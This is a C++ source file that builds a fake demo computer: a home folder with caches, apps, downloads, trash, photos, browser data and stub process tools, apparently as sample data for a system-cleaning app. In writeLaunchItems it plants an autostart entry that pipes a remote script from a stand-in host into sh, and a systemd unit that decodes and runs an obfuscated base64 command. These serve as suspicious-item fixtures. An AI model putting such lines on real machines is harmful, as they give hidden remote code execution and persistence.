#include "pictures/DemoComputer.h"

#include "platform/ExtendedAttributes.h"
#include "support/PathRules.h"

#include <QDir>
#include <QDirIterator>
#include <QFile>
#include <QImage>
#include <QLinearGradient>
#include <QPainter>
#include <QPainterPath>
#include <QRadialGradient>
#include <QUrl>

#include <algorithm>
#include <cmath>
#include <cstring>
#include <utility>
#include <vector>

#include <fcntl.h>
#include <sys/stat.h>

namespace tarnwick::DemoComputer {

namespace {

constexpr qint64 kKB = 1000;
constexpr qint64 kMB = 1000 * kKB;
constexpr qint64 kGB = 1000 * kMB;
constexpr qint64 kMinute = 60;
constexpr qint64 kHour = 60 * kMinute;
constexpr qint64 kDay = 24 * kHour;
// How long the computer has been running.
constexpr qint64 kUptimeSeconds = 3 * kDay + 4 * kHour + 12 * kMinute;
constexpr quint32 kUser = 1000;

// Writes the files of the computer and remembers how old each should look;
// the first failure is kept and every later call does nothing.
class Writer {
public:
    explicit Writer(QString folder) : folder_(std::move(folder)) {}

    bool ok() const { return failed_.isEmpty(); }
    const QString& failure() const { return failed_; }

    // A file of that length without blocks: measured by its length, it takes no room.
    void sparse(const QString& path, qint64 bytes, qint64 ageSeconds = kDefaultAge) {
        QFile file(prepared(path));
        if (!ok()) return;
        if (!file.open(QIODevice::WriteOnly | QIODevice::Truncate) || !file.resize(bytes)) return fail(path);
        age(path, ageSeconds);
    }

    // A file of that length holding its bytes: what a clean moves, or what a
    // finder measures by the space it takes. The same seed, the same bytes.
    void solid(const QString& path, qint64 bytes, qint64 ageSeconds = kDefaultAge) {
        solid(path, bytes, ++seed_, ageSeconds);
    }
    void solid(const QString& path, qint64 bytes, quint32 seed, qint64 ageSeconds) {
        QFile file(prepared(path));
        if (!ok()) return;
        if (!file.open(QIODevice::WriteOnly | QIODevice::Truncate)) return fail(path);
        // Noise from a xorshift generator: nothing a file system could compress away.
        quint32 state = seed | 1u;
        QByteArray block(64 * 1024, Qt::Uninitialized);
        for (qint64 left = bytes; left > 0; left -= block.size()) {
            for (qsizetype i = 0; i + 4 <= block.size(); i += 4) {
                state ^= state << 13;
                state ^= state >> 17;
                state ^= state << 5;
                std::memcpy(block.data() + i, &state, 4);
            }
            const qint64 length = std::min<qint64>(left, block.size());
            if (file.write(block.constData(), length) != length) return fail(path);
        }
        age(path, ageSeconds);
    }

    void text(const QString& path, const QByteArray& contents, qint64 ageSeconds = kDefaultAge) {
        QFile file(prepared(path));
        if (!ok()) return;
        if (!file.open(QIODevice::WriteOnly | QIODevice::Truncate) || file.write(contents) != contents.size()) {
            return fail(path);
        }
        age(path, ageSeconds);
    }

    void picture(const QString& path, const QImage& image, int quality, qint64 ageSeconds) {
        if (!image.save(prepared(path), "JPEG", quality)) return fail(path);
        age(path, ageSeconds);
    }

    void executable(const QString& path) {
        if (ok() && !QFile::setPermissions(path, QFile::permissions(path) | QFile::ExeOwner | QFile::ExeGroup |
                                                     QFile::ExeOther)) {
            fail(path);
        }
    }

    void link(const QString& target, const QString& path) {
        if (ok() && !QFile::link(target, prepared(path))) fail(path);
    }

    // Marks a file as fetched from the address, as browsers do. A file system
    // without user attributes keeps no mark, and the file is no download then.
    // The mark may take a block of its own: it goes only on files no finder
    // measures by the space they take.
    void origin(const QString& path, const QByteArray& url) {
        if (ok()) ExtendedAttributes::set(path, QStringLiteral("user.xdg.origin.url"), url);
    }

    void age(const QString& path, qint64 seconds) { ages_.emplace_back(path, seconds); }

    // Dates every entry below the folder: the ones given their own age, the
    // rest (folders too) two days old.
    void finish() {
        if (!ok()) return;
        QDirIterator it(folder_, QDir::AllEntries | QDir::Hidden | QDir::System | QDir::NoDotAndDotDot,
                        QDirIterator::Subdirectories);
        while (it.hasNext()) setAge(it.next(), kDefaultAge);
        for (const auto& [path, seconds] : ages_) setAge(path, seconds);
    }

    static constexpr qint64 kDefaultAge = 2 * kDay;

private:
    QString prepared(const QString& path) {
        if (ok() && !QDir().mkpath(PathRules::deletingLastPathComponent(path))) fail(path);
        return path;
    }

    void fail(const QString& path) {
        if (ok()) failed_ = QStringLiteral("cannot write ") + path;
    }

    void setAge(const QString& path, qint64 seconds) {
        const struct timespec times[2] = {{0, UTIME_OMIT}, {now().toSecsSinceEpoch() - seconds, 0}};
        if (::utimensat(AT_FDCWD, QFile::encodeName(path).constData(), times, AT_SYMLINK_NOFOLLOW) != 0) fail(path);
    }

    QString folder_;
    QString failed_;
    quint32 seed_ = 1000;
    std::vector<std::pair<QString, qint64>> ages_;
};

// The seconds between a date and the computer's clock.
qint64 ageOf(const QDateTime& when) {
    return when.secsTo(now());
}

// ---- Photos ----

// Fine grain over a picture, as a camera's sensor leaves it: it keeps the
// photo from compressing to nothing. The same for the same seed.
void grain(QImage& image, quint32 seed) {
    quint32 state = seed | 1u;
    for (int y = 0; y < image.height(); ++y) {
        auto* line = reinterpret_cast<QRgb*>(image.scanLine(y));
        for (int x = 0; x < image.width(); ++x) {
            state ^= state << 13;
            state ^= state >> 17;
            state ^= state << 5;
            const int d = int(state % 25) - 12;
            const QRgb p = line[x];
            line[x] = qRgb(std::clamp(qRed(p) + d, 0, 255), std::clamp(qGreen(p) + d, 0, 255),
                           std::clamp(qBlue(p) + d, 0, 255));
        }
    }
}

QPainterPath ridge(int width, int height, double base, double amplitude, double waves, double phase) {
    QPainterPath path(QPointF(0, height));
    for (int x = 0; x <= width; x += 8) {
        const double t = double(x) / width;
        path.lineTo(x, height * (base - amplitude * (std::sin(t * waves + phase) * 0.7 +
                                                     std::sin(t * waves * 2.3 + phase * 1.7) * 0.3)));
    }
    path.lineTo(width, height);
    path.closeSubpath();
    return path;
}

// A lake below hills at sunset.
QImage landscape(int width, int height) {
    QImage image(width, height, QImage::Format_RGB32);
    QPainter painter(&image);
    painter.setRenderHint(QPainter::Antialiasing);
    QLinearGradient sky(0, 0, 0, height * 0.62);
    sky.setColorAt(0, QColor(58, 96, 168));
    sky.setColorAt(0.7, QColor(226, 150, 120));
    sky.setColorAt(1, QColor(250, 204, 140));
    painter.fillRect(image.rect(), sky);
    QRadialGradient sun(width * 0.68, height * 0.5, height * 0.16);
    sun.setColorAt(0, QColor(255, 244, 214));
    sun.setColorAt(0.45, QColor(255, 214, 150));
    sun.setColorAt(1, QColor(255, 214, 150, 0));
    painter.setPen(Qt::NoPen);
    painter.setBrush(sun);
    painter.drawEllipse(QPointF(width * 0.68, height * 0.5), height * 0.16, height * 0.16);
    const QColor hills[] = {QColor(132, 104, 140), QColor(88, 74, 110), QColor(48, 52, 76)};
    for (int i = 0; i < 3; ++i) {
        painter.setBrush(hills[i]);
        painter.drawPath(ridge(width, height, 0.52 + 0.05 * i, 0.07 + 0.03 * i, 5.0 + 2 * i, 1.3 * i));
    }
    QLinearGradient lake(0, height * 0.7, 0, height);
    lake.setColorAt(0, QColor(214, 150, 128));
    lake.setColorAt(1, QColor(36, 48, 82));
    painter.setBrush(lake);
    painter.drawRect(QRectF(0, height * 0.7, width, height * 0.3));
    painter.end();
    grain(image, 2231);
    return image;
}

// A street at night: lit windows in dark blocks.
QImage street(int width, int height) {
    QImage image(width, height, QImage::Format_RGB32);
    QPainter painter(&image);
    QLinearGradient sky(0, 0, 0, height);
    sky.setColorAt(0, QColor(12, 16, 34));
    sky.setColorAt(1, QColor(46, 38, 70));
    painter.fillRect(image.rect(), sky);
    quint32 state = 2240;
    auto next = [&state](int range) {
        state = state * 1103515245u + 12345u;
        return int((state >> 8) % quint32(range));
    };
    for (int x = 0; x < width;) {
        const int w = width / 12 + next(width / 10);
        const int top = height / 5 + next(height / 2);
        painter.fillRect(x, top, w - 6, height - top, QColor(24 + next(20), 24 + next(20), 36 + next(24)));
        for (int wy = top + 20; wy < height - 40; wy += 34) {
            for (int wx = x + 14; wx < x + w - 30; wx += 30) {
                if (next(3) == 0) painter.fillRect(wx, wy, 14, 18, QColor(250, 214, 120));
            }
        }
        x += w;
    }
    painter.end();
    grain(image, 2240);
    return image;
}

// The photo edited: cropped a little, made smaller and warmer.
QImage edited(const QImage& photo) {
    const QRect crop = photo.rect().adjusted(photo.width() / 40, photo.height() / 40, -photo.width() / 40,
                                             -photo.height() / 40);
    QImage image = photo.copy(crop)
                       .scaled(photo.width() * 4 / 5, photo.height() * 4 / 5, Qt::IgnoreAspectRatio,
                               Qt::SmoothTransformation)
                       .convertToFormat(QImage::Format_RGB32);
    for (int y = 0; y < image.height(); ++y) {
        auto* line = reinterpret_cast<QRgb*>(image.scanLine(y));
        for (int x = 0; x < image.width(); ++x) {
            const QRgb p = line[x];
            line[x] = qRgb(std::min(255, qRed(p) + 14), std::min(255, qGreen(p) + 8), qBlue(p));
        }
    }
    return image;
}

// ---- The home folder ----

void writeApps(Writer& w, const QString& home) {
    struct Leftover {
        const char* path;  // below the home folder
        qint64 size;
    };
    struct AppImage {
        const char* path;   // below the home folder
        const char* name;   // of its desktop entry, or null
        qint64 size;
        qint64 age;
        std::vector<Leftover> leftovers;
    };
    const AppImage images[] = {
        {"/Applications/Fernwood-Studio-3.4.1-x86_64.AppImage", "Fernwood Studio", 340 * kMB, 140 * kDay,
         {{"/.local/share/Fernwood Studio/library.db", 2100 * kMB}, {"/.cache/fernwoodstudio/previews.bin", 4600 * kKB},
          {"/.local/state/Fernwood Studio/session.log", 12 * kMB}, {"/.config/Fernwood Studio/settings.json", 48000}}},
        {"/AppImages/Lumen-Player-4.1.2-x86_64.AppImage", "Lumen Player", 410 * kMB, 90 * kDay,
         {{"/.cache/Lumen Player/artwork.bin", 1900 * kKB}}},
        {"/Downloads/Lumen-Player-4.2.0-x86_64.AppImage", nullptr, 415 * kMB, 5 * kDay, {}},
        {"/.local/bin/Quillpad.AppImage", "Quillpad", 88 * kMB, 60 * kDay, {}},
    };
    for (const AppImage& image : images) {
        const QString path = home + QString::fromUtf8(image.path);
        w.sparse(path, image.size, image.age);
        w.executable(path);
        if (image.name) {
            const QString name = QString::fromUtf8(image.name);
            w.text(home + QStringLiteral("/.local/share/applications/appimagekit-") +
                       name.toLower().remove(QLatin1Char(' ')) + QStringLiteral(".desktop"),
                   "[Desktop Entry]\nType=Application\nName=" + name.toUtf8() + "\nExec=\"" + path.toUtf8() +
                       "\" %U\n");
        }
        for (const Leftover& leftover : image.leftovers) {
            // What lies in the cache folder moves with the caches, so it holds its bytes.
            const QString path = QString::fromUtf8(leftover.path);
            if (path.startsWith(QLatin1String("/.cache/"))) {
                w.solid(home + path, leftover.size);
            } else {
                w.sparse(home + path, leftover.size);
            }
        }
    }

    // Flatpak apps of the user's installation, each deployed as flatpak leaves it.
    auto flatpakApp = [&](const QString& id, const QString& name, const QString& version, qint64 bytes) {
        const QString app = home + QStringLiteral("/.local/share/flatpak/app/") + id;
        const QString active = app + QStringLiteral("/x86_64/stable/5d1c0ffee");
        w.text(active + QStringLiteral("/metadata"), "[Application]\nname=" + id.toUtf8() + "\n");
        w.text(active + QStringLiteral("/export/share/applications/") + id + QStringLiteral(".desktop"),
               "[Desktop Entry]\nType=Application\nName=" + name.toUtf8() + "\nExec=run\n");
        w.text(active + QStringLiteral("/files/share/metainfo/") + id + QStringLiteral(".metainfo.xml"),
               "<component><releases><release version=\"" + version.toUtf8() + "\"/></releases></component>");
        w.sparse(active + QStringLiteral("/files/bin/") + name.toLower().remove(QLatin1Char(' ')), bytes);
        w.link(QStringLiteral("5d1c0ffee"), app + QStringLiteral("/x86_64/stable/active"));
        w.link(QStringLiteral("x86_64/stable"), app + QStringLiteral("/current"));
    };
    flatpakApp(QStringLiteral("org.pixelforge.Editor"), QStringLiteral("Pixelforge"), QStringLiteral("5.0.1"),
               1900 * kMB);
    w.sparse(home + QStringLiteral("/.var/app/org.pixelforge.Editor/data/brushes.bin"), 820 * kMB);
    w.sparse(home + QStringLiteral("/.var/app/org.pixelforge.Editor/config/pixelforge.conf"), 3 * kMB);
    w.solid(home + QStringLiteral("/.var/app/org.pixelforge.Editor/cache/brush-previews/atlas-0.bin"), 2200 * kKB);
    w.solid(home + QStringLiteral("/.var/app/org.pixelforge.Editor/cache/brush-previews/atlas-1.bin"), 1400 * kKB);
    flatpakApp(QStringLiteral("org.orbit.Mail"), QStringLiteral("Orbit Mail"), QStringLiteral("12.3"), 520 * kMB);
    // The data of an app removed long ago.
    w.sparse(home + QStringLiteral("/.var/app/org.sketchbook.Paint/data/projects.db"), 380 * kMB, 210 * kDay);
    w.text(home + QStringLiteral("/.var/app/org.sketchbook.Paint/config/sketchbook.ini"), "[view]\nzoom=1.5\n",
           210 * kDay);
}

void writeJunk(Writer& w, const QString& home) {
    struct File {
        const char* path;  // below the folder
        qint64 size;
    };
    // The caches hold their bytes: the pictures move them into the Safe Bin,
    // which counts the space things take.
    const QString cache = home + QStringLiteral("/.cache");
    const File caches[] = {
        {"/mozilla/firefox/k3v9x2d1.default-release/cache2/entries/3F2A9C0D1E77B5A0C4D2E18F6B3A9D20C7E1F4A8", 4200 * kKB},
        {"/mozilla/firefox/k3v9x2d1.default-release/cache2/entries/8B41E6F0A2C95D37B1E4F08A6C2D9E35F17A0B6C", 3100 * kKB},
        {"/mozilla/firefox/k3v9x2d1.default-release/cache2/entries/C0D7A35E9F1B48E62A0C7D3F5B9E1A84D6C2F07E", 2600 * kKB},
        {"/mozilla/firefox/k3v9x2d1.default-release/cache2/entries/E59B2C7A0D4F16E38B9A5C1D7F0E2B46A8C3D91F", 1900 * kKB},
        {"/mozilla/firefox/k3v9x2d1.default-release/startupCache/startupCache.8.little", 900 * kKB},
        {"/google-chrome/Default/Cache/Cache_Data/data_1", 300 * kKB},
        {"/google-chrome/Default/Cache/Cache_Data/data_3", 2100 * kKB},
        {"/google-chrome/Default/Cache/Cache_Data/f_000a31", 3400 * kKB},
        {"/google-chrome/Default/Cache/Cache_Data/f_000a32", 1700 * kKB},
        {"/google-chrome/Default/Code Cache/js/index-dir/the-real-index", 800 * kKB},
        {"/thumbnails/large/0b9f6c1d4e2a8b73c5d1e9f0a7b3c6d2.png", 1600 * kKB},
        {"/thumbnails/normal/5e8a2c7b1d9f3e6a0c4b8d2f7e1a9c35.png", 900 * kKB},
        {"/pip/http-v2/4/a/1/9/c/4a19c7e2b8d05f3a6e1c9d7b2f4a8e0c", 2400 * kKB},
        {"/pip/http-v2/b/7/0/e/2/b70e2d9a4c1f8e6b3d0a7c5e9f2b1d48", 1300 * kKB},
        {"/yarn/v6/npm-esbuild-linux-64-0.19.12-integrity/package/bin/esbuild", 1800 * kKB},
        {"/yarn/v6/npm-typescript-5.4.5-integrity/package/lib/typescript.js", 1200 * kKB},
        {"/yarn/v6/npm-sass-1.77.1-integrity/package/sass.dart.js", 700 * kKB},
    };
    for (const File& file : caches) w.solid(cache + QString::fromUtf8(file.path), file.size);
    // The desktop's search index, written to a few minutes ago: in use.
    w.solid(cache + QStringLiteral("/tracker3/files/meta.db"), 1600 * kKB, 8 * kMinute);
    // Models, which a scan lists on their own and a clean of the caches leaves.
    const File models[] = {
        {"/huggingface/hub/models--fernlab--tiny-encoder/blobs/"
         "9c1e4b7a2d8f3e6b0a5c9d1e7f2b4a8c6d0e3f9a1b5c7d2e8f4a6b0c3d9e1f7a",
         1340 * kMB},
        {"/huggingface/hub/models--fernlab--speech-small/blobs/"
         "2b7d0e5a9c3f1e8b6d4a2c0f7e9b5d3a1c8e6f4b2d0a9c7e5f3b1d8a6c4e2f0b",
         2080 * kMB},
    };
    for (const File& file : models) w.sparse(cache + QString::fromUtf8(file.path), file.size, 40 * kDay);
    w.text(cache + QStringLiteral("/huggingface/hub/models--fernlab--tiny-encoder/refs/main"), "a1f3c9e\n", 40 * kDay);

    // Downloads: one that stopped early, one still arriving.
    w.solid(home + QStringLiteral("/Downloads/debian-12.6.0-amd64-netinst.iso.part"), 8900 * kKB, 2 * kDay);
    w.sparse(home + QStringLiteral("/Downloads/podcast-episode-212.mp3.part"), 42 * kMB, 4 * kMinute);

    // Language models and two projects' dependencies.
    w.sparse(home + QStringLiteral("/.ollama/models/blobs/sha256-"
                                   "6a0746a1ec1aef3e7ec53868f220ff6e389f6f8ef87a01d77c96807de94ca2aa"),
             4110 * kMB, 40 * kDay);
    w.text(home + QStringLiteral("/.ollama/models/manifests/local/tinyllm/latest"), "{\"schemaVersion\":2}\n",
           40 * kDay);
    const File projects[] = {
        {"/weather-dashboard/node_modules/.cache/webpack/default-development/0.pack", 310 * kMB},
        {"/weather-dashboard/node_modules/typescript/lib/typescript.js", 9 * kMB},
        {"/weather-dashboard/node_modules/@esbuild/linux-x64/bin/esbuild", 10 * kMB},
        {"/old-portfolio/node_modules/.cache/babel-loader/7c1e9a3f.json", 140 * kMB},
        {"/old-portfolio/node_modules/sharp/vendor/lib/libvips-cpp.so", 58 * kMB},
    };
    for (const File& file : projects) {
        w.sparse(home + QStringLiteral("/Projects") + QString::fromUtf8(file.path), file.size, 95 * kDay);
    }
    w.text(home + QStringLiteral("/Projects/weather-dashboard/package.json"), "{\"name\":\"weather-dashboard\"}\n");
    w.text(home + QStringLiteral("/Projects/old-portfolio/package.json"), "{\"name\":\"old-portfolio\"}\n",
           300 * kDay);

    // Installers: two fetched months ago, one this week (still marked as a
    // download), and a script next to it.
    w.solid(home + QStringLiteral("/Downloads/photo-tools_1.8.2_amd64.deb"), 7400 * kKB, 64 * kDay);
    w.solid(home + QStringLiteral("/Downloads/wallpapers-2024.zip"), 3100 * kKB, 150 * kDay);
    const QString vpn = home + QStringLiteral("/Downloads/vpn-client_2.4.1_amd64.deb");
    w.sparse(vpn, 38 * kMB, 3 * kDay);
    w.origin(vpn, "https://vpn.example.com/download/vpn-client_2.4.1_amd64.deb");
    const QString script = home + QStringLiteral("/Downloads/install.sh");
    w.text(script, "#!/bin/sh\n# Installs the client for this user.\nset -e\nmkdir -p \"$HOME/.local/bin\"\n", 3 * kDay);
    w.executable(script);
}

void writeClutter(Writer& w, const QString& home) {
    // The trash, each entry with the record the desktop keeps of it.
    const QString trash = home + QStringLiteral("/.local/share/Trash");
    auto trashed = [&](const QString& name, const QString& from, const QDateTime& when) {
        const QString original = home + QLatin1Char('/') + from + QLatin1Char('/') + name;
        w.text(trash + QStringLiteral("/info/") + name + QStringLiteral(".trashinfo"),
               "[Trash Info]\nPath=" + QUrl::toPercentEncoding(original, "/") +
                   "\nDeletionDate=" + when.toString(Qt::ISODate).left(19).toUtf8() + "\n",
               ageOf(when));
    };
    const QDateTime now = DemoComputer::now();
    w.solid(trash + QStringLiteral("/files/old-backup.tar.gz"), 6800 * kKB, 20 * kDay);
    trashed(QStringLiteral("old-backup.tar.gz"), QStringLiteral("Documents"), now.addDays(-9));
    w.solid(trash + QStringLiteral("/files/render-cache/frames-0001.bin"), 1900 * kKB);
    w.solid(trash + QStringLiteral("/files/render-cache/frames-0002.bin"), 1400 * kKB);
    trashed(QStringLiteral("render-cache"), QStringLiteral("Videos"), now.addDays(-6));
    w.solid(trash + QStringLiteral("/files/notes-draft.odt"), 240 * kKB, 30 * kDay);
    trashed(QStringLiteral("notes-draft.odt"), QStringLiteral("Documents"), now.addDays(-2));

    // Screenshots, two of them older than a fortnight.
    const QString shots = home + QStringLiteral("/Pictures/Screenshots/");
    for (const auto& [taken, bytes] : {std::pair{QStringLiteral("2025-04-02 14-21-07"), 1420 * kKB},
                                       std::pair{QStringLiteral("2025-04-30 09-12-44"), 860 * kKB},
                                       std::pair{QStringLiteral("2025-06-10 16-05-31"), 1100 * kKB}}) {
        QDateTime when = QDateTime::fromString(taken, QStringLiteral("yyyy-MM-dd HH-mm-ss"));
        when.setTimeSpec(Qt::UTC);
        w.sparse(shots + QStringLiteral("Screenshot From ") + taken + QStringLiteral(".png"), bytes, ageOf(when));
    }

    // A manual saved twice, and a photo with its edited copy beside another one.
    w.solid(home + QStringLiteral("/Documents/Manuals/camera-manual.pdf"), 2600 * kKB, 7, 200 * kDay);
    w.solid(home + QStringLiteral("/Desktop/camera-manual.pdf"), 2600 * kKB, 7, 30 * kDay);
    const QImage photo = landscape(2400, 1600);
    w.picture(home + QStringLiteral("/Pictures/Camera/IMG_2231.jpg"), photo, 92, 70 * kDay);
    w.picture(home + QStringLiteral("/Pictures/Camera/IMG_2231-edited.jpg"), edited(photo), 88, 68 * kDay);
    w.picture(home + QStringLiteral("/Pictures/Camera/IMG_2240.jpg"), street(2400, 1600), 92, 66 * kDay);

    // Large files untouched for a long time.
    w.sparse(home + QStringLiteral("/Videos/Holiday 2023.mkv"), 18400 * kMB, 540 * kDay);
    w.sparse(home + QStringLiteral("/Videos/Interview raw.mkv"), 13700 * kMB, 400 * kDay);
    w.sparse(home + QStringLiteral("/Documents/Archive/photos-2019.tar"), 6200 * kMB, 900 * kDay);
    w.text(home + QStringLiteral("/Documents/Taxes/2024-return.txt"), "Filed.\n", 60 * kDay);
}

void writeBrowsers(Writer& w, const QString& home) {
    QByteArray recent = "<?xml version=\"1.0\" encoding=\"UTF-8\"?>\n<xbel version=\"1.0\">\n";
    for (int i = 0; i < 160; ++i) {
        recent += "  <bookmark href=\"file://" + QUrl::toPercentEncoding(home, "/") + "/Documents/Work/report-" +
                  QByteArray::number(1000 + i) +
                  ".odt\" added=\"2025-05-01T09:00:00Z\" modified=\"2025-05-01T09:00:00Z\" "
                  "visited=\"2025-05-01T09:00:00Z\">\n    <info><metadata owner=\"http://freedesktop.org\">"
                  "<mime:mime-type type=\"application/vnd.oasis.opendocument.text\"/>"
                  "<bookmark:applications><bookmark:application name=\"Writer\" exec=\"&apos;writer %u&apos;\" "
                  "modified=\"2025-05-01T09:00:00Z\" count=\"1\"/></bookmark:applications>"
                  "</metadata></info>\n  </bookmark>\n";
    }
    recent += "</xbel>\n";
    w.text(home + QStringLiteral("/.local/share/recently-used.xbel"), recent, 3 * kHour);

    const QString chrome = home + QStringLiteral("/.config/google-chrome/Default");
    w.sparse(chrome + QStringLiteral("/History"), 22 * kMB, kDay);
    w.sparse(chrome + QStringLiteral("/Network/Cookies"), 1300 * kKB, kDay);
    for (const char* id : {"gighmmpiobklfepjocnamgkkbiglidom", "nngceckbapebfimnlniiiahkandclblb"}) {
        w.text(chrome + QStringLiteral("/Extensions/") + QString::fromLatin1(id) + QStringLiteral("/1.0.0_0/manifest.json"),
               "{\"manifest_version\":3,\"name\":\"__MSG_name__\",\"version\":\"1.0.0\"}\n", 120 * kDay);
    }
    w.text(home + QStringLiteral("/.config/chromium/Default/Extensions/cjpalhdlnbpafiamejdnhcphjbkeiagm/1.58.0_0/"
                                 "manifest.json"),
           "{\"manifest_version\":2,\"name\":\"__MSG_extName__\",\"version\":\"1.58.0\"}\n", 240 * kDay);

    const QString firefox = home + QStringLiteral("/.mozilla/firefox");
    w.text(firefox + QStringLiteral("/profiles.ini"),
           "[Profile0]\nName=default-release\nIsRelative=1\nPath=k3v9x2d1.default-release\nDefault=1\n\n"
           "[General]\nStartWithLastProfile=1\nVersion=2\n",
           300 * kDay);
    w.sparse(firefox + QStringLiteral("/k3v9x2d1.default-release/places.sqlite"), 48 * kMB, kDay);
    w.sparse(firefox + QStringLiteral("/k3v9x2d1.default-release/cookies.sqlite"), 2100 * kKB, kDay);
}

void writeLaunchItems(Writer& w, const QString& home, const QString& root) {
    auto entry = [](const QByteArray& name, const QByteArray& exec, const QByteArray& extra = {}) {
        return "[Desktop Entry]\nType=Application\nName=" + name + "\nExec=" + exec + "\n" + extra;
    };
    const QString autostart = home + QStringLiteral("/.config/autostart/");
    w.text(autostart + QStringLiteral("session-sync.desktop"),
           entry("Session Sync", "sh -c \"curl -fsSL https://sync.example.net/agent.sh | sh\"",
                 "X-GNOME-Autostart-enabled=true\n"),
           12 * kDay);
    w.text(autostart + QStringLiteral("cloud-sync.desktop"), entry("Cloud Sync", "cloud-sync --background"), 80 * kDay);
    w.text(autostart + QStringLiteral("chat-client.desktop"), entry("Chat", "chat-client --start-minimized"),
           150 * kDay);
    // Switched off by the user: not listed.
    w.text(autostart + QStringLiteral("weather-tray.desktop"), entry("Weather", "weather-tray", "Hidden=true\n"),
           150 * kDay);

    const QString units = home + QStringLiteral("/.config/systemd/user/");
    w.text(units + QStringLiteral("photo-backup.service"),
           "[Unit]\nDescription=Photo backup\n\n[Service]\nExecStart=%h/.local/bin/photo-backup --watch\n\n"
           "[Install]\nWantedBy=default.target\n",
           45 * kDay);
    w.text(units + QStringLiteral("update-notifier-helper.service"),
           "[Unit]\nDescription=Update notifier helper\n\n[Service]\n"
           "ExecStart=/bin/sh -c 'echo ZXhlYyAvdG1wLy51cGQgLS1xdWlldAo= | base64 -d | sh'\n\n"
           "[Install]\nWantedBy=default.target\n",
           12 * kDay);

    // The system's entries: the desktop's own and one for other desktops, so
    // neither is listed (a listed one would show where the computer's root
    // lies in the pictures).
    const QString system = root + QStringLiteral("/etc/xdg/autostart/");
    w.text(system + QStringLiteral("org.gnome.SettingsDaemon.Power.desktop"),
           entry("Power", "/usr/libexec/gsd-power", "OnlyShowIn=GNOME;\n"), 300 * kDay);
    w.text(system + QStringLiteral("nm-applet.desktop"), entry("Network", "nm-applet", "NotShowIn=KDE;GNOME;\n"),
           300 * kDay);
}

// ---- The machine ----

struct Process {
    qint32 pid;
    const char* name;
    double cpu;
    double mem;
    qint64 residentKB;
    quint32 user;
    bool kernelThread;
};

// What runs on the computer, heaviest first.
const std::vector<Process>& processes() {
    static const std::vector<Process> table = {
        {2140, "firefox", 38.2, 6.2, 1051000, kUser, false},
        {2457, "Isolated Web Co", 21.4, 3.1, 520600, kUser, false},
        {1388, "gnome-shell", 6.3, 2.4, 401560, kUser, false},
        {2611, "Web Content", 4.6, 1.5, 248300, kUser, false},
        {1402, "Xwayland", 3.1, 0.9, 150220, kUser, false},
        {3377, "kworker/u16:2-events_unbound", 1.9, 0.0, 0, 0, true},
        {1203, "pipewire", 1.2, 0.1, 18940, kUser, false},
        {3091, "nautilus", 0.9, 1.1, 182700, kUser, false},
        {1517, "tracker-miner-f", 0.8, 0.7, 98400, kUser, false},
        {612, "systemd-journal", 0.3, 0.2, 36120, 0, false},
        {840, "NetworkManager", 0.2, 0.1, 21300, 0, false},
        {1, "systemd", 0.0, 0.1, 12400, 0, false},
        {4012, "ps", 0.0, 0.0, 3900, kUser, false},
    };
    return table;
}

QByteArray procStat(quint64 busy, quint64 idle) {
    const qint64 boot = now().toSecsSinceEpoch() - kUptimeSeconds;
    return "cpu  " + QByteArray::number(busy) + " 0 0 " + QByteArray::number(idle) +
           " 0 0 0 0 0 0\nintr 0\nctxt 81234567\nbtime " + QByteArray::number(boot) +
           "\nprocesses 51234\nprocs_running 2\nprocs_blocked 0\n";
}

void writeMachine(Writer& w, const QString& root, const QString& tools) {
    w.text(root + QStringLiteral("/proc/stat"), procStat(18200, 221400));
    w.text(root + QStringLiteral("/proc/meminfo"),
           "MemTotal:       16318480 kB\nMemFree:         1204320 kB\nMemAvailable:    6118220 kB\n");
    for (const Process& process : processes()) {
        const QString folder = root + QStringLiteral("/proc/") + QString::number(process.pid);
        const quint64 flags = process.kernelThread ? 0x00208040 : 0x00400100;
        w.text(folder + QStringLiteral("/stat"),
               QByteArray::number(process.pid) + " (" + process.name + ") S 1 " + QByteArray::number(process.pid) +
                   " " + QByteArray::number(process.pid) + " 0 -1 " + QByteArray::number(flags) +
                   " 0 0 0 0 120 40 0 0 20 0 12 0 " + QByteArray::number(4000 + process.pid * 3) + " 0 0\n");
        const QByteArray user = QByteArray::number(process.user);
        w.text(folder + QStringLiteral("/status"), QByteArray("Name:\t") + process.name +
                                                     "\nState:\tS (sleeping)\nUid:\t" + user + "\t" + user + "\t" +
                                                     user + "\t" + user + "\n");
    }
    const QString power = root + QStringLiteral("/sys/class/power_supply/");
    w.text(power + QStringLiteral("AC/type"), "Mains\n");
    w.text(power + QStringLiteral("AC/online"), "1\n");
    w.text(power + QStringLiteral("BAT0/type"), "Battery\n");
    w.text(power + QStringLiteral("BAT0/present"), "1\n");
    w.text(power + QStringLiteral("BAT0/capacity"), "78\n");
    w.text(power + QStringLiteral("BAT0/status"), "Charging\n");
    w.text(power + QStringLiteral("BAT0/cycle_count"), "214\n");

    // "ps" as it answers the performance finder and the tray panel.
    QByteArray finder;
    QByteArray panel;
    for (const Process& process : processes()) {
        const QByteArray pid = QByteArray::number(process.pid).rightJustified(7);
        const QByteArray cpu = QByteArray::number(process.cpu, 'f', 1).rightJustified(5);
        finder += pid + cpu + QByteArray::number(process.mem, 'f', 1).rightJustified(5) +
                  QByteArray::number(process.residentKB).rightJustified(8) + " " + process.name + "\n";
        panel += pid + cpu + " " + process.name + "\n";
    }
    w.text(tools + QStringLiteral("/ps"), "#!/bin/sh\ncase \"$*\" in\n*rss=*) cat <<'EOF'\n" + finder +
                                             "EOF\n;;\n*) cat <<'EOF'\n" + panel + "EOF\n;;\nesac\n");
    w.executable(tools + QStringLiteral("/ps"));
    // flatpak as it answers with an update for one app.
    w.text(tools + QStringLiteral("/flatpak"),
           "#!/bin/sh\ncase \"$*\" in\n*remote-ls*--user*) printf 'org.pixelforge.Editor\\t5.1.0\\n' ;;\nesac\n");
    w.executable(tools + QStringLiteral("/flatpak"));
}

}  // namespace

QDateTime now() {
    return QDateTime(QDate(2025, 6, 12), QTime(9, 41), Qt::UTC);
}

std::optional<Environment> write(const QString& folder, QString* error) {
    Environment environment = Environment::system();
    environment.homeDirectory = folder + QStringLiteral("/home/robin");
    environment.rootPrefix = folder + QStringLiteral("/root");
    environment.tempDirectory = folder + QStringLiteral("/tmp");
    environment.applicationSupport = environment.homeDirectory + QStringLiteral("/.local/share");
    environment.settingsFile = folder + QStringLiteral("/settings.ini");
    environment.clock = [] { return DemoComputer::now(); };
    environment.uptimeClock = [] { return Environment::Uptime{"demo", kUptimeSeconds * 1000}; };
    // The desktop and search path of the session; none of this machine's own folders.
